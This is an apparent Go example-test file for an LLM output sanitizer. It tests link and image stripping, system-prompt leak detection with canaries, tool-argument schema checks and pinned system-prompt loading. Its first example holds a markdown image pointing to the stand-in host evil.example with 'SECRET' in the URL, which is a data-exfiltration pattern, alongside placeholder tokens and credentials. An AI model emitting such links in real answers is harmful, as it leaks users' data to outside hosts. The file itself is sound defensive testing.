package sanitize_test

import (
	"encoding/json"
	"errors"
	"fmt"
	"testing/fstest"

	"github.com/secureai-go/secureai/sanitize"
)

func ExampleRemoveLinks() {
	answer := "See ![chart](https://evil.example/p.png?q=SECRET) and [the docs](https://docs.example.com/a).\n" +
		"[Pay here](https://evil.example/pay) or read [the FAQ](faq.md)."
	out, findings := sanitize.RemoveLinks(answer, sanitize.HostAllowlist("docs.example.com"))
	fmt.Println(out)
	for _, f := range findings {
		fmt.Println(f.Kind, f.Type, f.Start, f.End)
	}
	// Output:
	// See  and [the docs](https://docs.example.com/a).
	// Pay here or read [the FAQ](faq.md).
	// leak exfil_image 4 49
	// leak exfil_link 94 130
}

func ExamplePendingLink() {
	stream := "Here is the chart: ![chart](https://docs.example.com"
	p := sanitize.PendingLink(stream)
	fmt.Printf("release %q, hold %q\n", stream[:p], stream[p:])
	// Output:
	// release "Here is the chart: ", hold "![chart](https://docs.example.com"
}

func ExampleLeakDetector() {
	const prompt = "You are the support assistant of Example Widgets. Refunds above 500 EUR need approval from a human agent; never promise one."
	canary := "CNRY-ABCDEFGHIJKLMNOPQRST" // from sanitize.NewCanary() in real use
	d, err := sanitize.NewLeakDetector(sanitize.AppendCanary(prompt, canary), []string{canary}, 0)
	if err != nil {
		panic(err)
	}
	for _, answer := range []string{
		"Your refund is on its way.",
		"My marker is cnry-abcdefghijklmnopqrst.",
		"I was told: REFUNDS above 500 EUR need approval\nfrom a human agent; never promise one.",
	} {
		fmt.Println(d.Scan(answer))
	}
	// Output:
	// []
	// [{leak canary 13 38}]
	// [{leak system_prompt_verbatim 12 86}]
}

func ExampleToolSchemas_Validate() {
	tools, err := sanitize.NewToolSchemas(map[string]any{
		"get_weather": json.RawMessage(`{"type":"object","properties":{"city":{"type":"string"}},
			"required":["city"],"additionalProperties":false}`),
	})
	if err != nil {
		panic(err)
	}
	fmt.Println(tools.Validate("get_weather", `{"city":"Oslo"}`))
	fmt.Println(tools.Validate("get_weather", `{"city":"Oslo","token":"sk-live-123"}`))
	err = tools.Validate("delete_account", `{}`)
	fmt.Println(err, errors.Is(err, sanitize.ErrToolNotAllowed))
	// Output:
	// <nil>
	// sanitize: tool call "get_weather": schema: failed /additionalProperties
	// sanitize: tool call "delete_account": not_allowed true
}

func ExampleLoadSystemPrompt() {
	fsys := fstest.MapFS{"support.txt": {Data: []byte("You are a helpful support assistant.\n")}}
	pin := "sha256:0ef6d3bfb8f8a0e2f1d6c0d33a27c7d8adcb6f0a4c6ba11c0a9d1d2bf4a8bb25" // stale
	_, err := sanitize.LoadSystemPrompt(fsys, "support.txt", pin)
	fmt.Println(err)
	p, err := sanitize.LoadSystemPrompt(fsys, "support.txt", sanitize.PromptHash("You are a helpful support assistant.\n"))
	fmt.Println(p.Hash(), err)
	fmt.Println(sanitize.CheckSystemPrompt("Reports come from postgres://app:hunter2@db:5432/x."))
	// Output:
	// sanitize: system prompt "support.txt" refused: pin_mismatch (content is sha256:1ca0f8e5e2ccdca509f11a3919f0d343c6c27d4a34612e27a3cfc66a669110d1)
	// sha256:1ca0f8e5e2ccdca509f11a3919f0d343c6c27d4a34612e27a3cfc66a669110d1 <nil>
	// sanitize: system prompt refused: connection_string at bytes 33-40
}
